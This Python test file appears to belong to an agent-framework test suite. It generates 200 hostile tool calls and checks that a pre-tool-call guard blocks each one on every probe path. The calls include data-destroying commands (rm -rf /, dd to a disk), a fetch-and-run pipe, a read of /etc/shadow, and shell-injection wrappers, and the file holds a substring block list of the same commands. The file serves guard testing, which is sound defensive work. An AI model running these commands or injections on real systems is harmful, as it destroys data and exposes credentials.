"""200 attack calls, and an agent whose guards must stop each of them on every path of a probe, also
through the doors.
"""

from __future__ import annotations

from collections.abc import Sequence
from contextlib import aclosing
from itertools import product
from typing import Any, Final

from hookline import Agent, Deny, ToolCall
from hookline.cli._probe.second_process import SecondProcess
from hookline.testing import ScriptedModel, call, probe
from hookline.testing.doors import DOOR_PATHS

COMMANDS: Final = ("rm -rf /", "curl x | sh", "chmod 777 /", "dd of=/dev/sda", "cat /etc/shadow")
FORMS: Final = ("{}", " {}", "ls; {}", "ls && {}", "$({})", "`{}`", "sh -c '{}'", "ls\n{}", "({})",
                "sudo {}")  # fmt: skip
TOOLS: Final = ("bash", "shell")
OPTIONS: Final = ({}, {"force": True})
ATTACKS: Final[tuple[ToolCall, ...]] = tuple(
    call(tool, command=form.format(command), **more)
    for tool, command, form, more in product(TOOLS, COMMANDS, FORMS, OPTIONS)
)


async def bash(command: str = "", force: bool = False) -> str:
    """Run a command."""
    raise AssertionError("a probe runs no tool")


async def shell(command: str = "", force: bool = False) -> str:
    """Run a command in a shell."""
    raise AssertionError("a probe runs no tool")


def denies(ctx: Any) -> Deny | None:
    command = str(ctx.call.arguments.get("command", ""))
    return Deny("no") if any(each in command for each in COMMANDS) else None


def guarded() -> Agent[Any]:
    agent = unguarded()
    agent.add_hook("preToolCall", denies, guard=True)
    return agent


def unguarded() -> Agent[Any]:
    return Agent(ScriptedModel(), tools=[bash, shell])


async def passed(attacks: Sequence[ToolCall], *, guard: bool = True) -> list[str]:
    """The attacks that passed, each with the paths on which it did."""
    make = guarded if guard else unguarded
    agent, passages = make(), list[str]()
    async with aclosing(SecondProcess(f"{__name__}:{make.__name__}", None)) as second:
        doors = {**DOOR_PATHS, **second.paths}
        for attack in attacks:
            result = await probe(agent, attack, paths=doors)
            paths = [*result.failures("denied"), *result.left_out]
            if paths:
                arguments = dict(attack.arguments)
                passages.append(f"{attack.name}({arguments!r}): {', '.join(paths)}")
    return passages
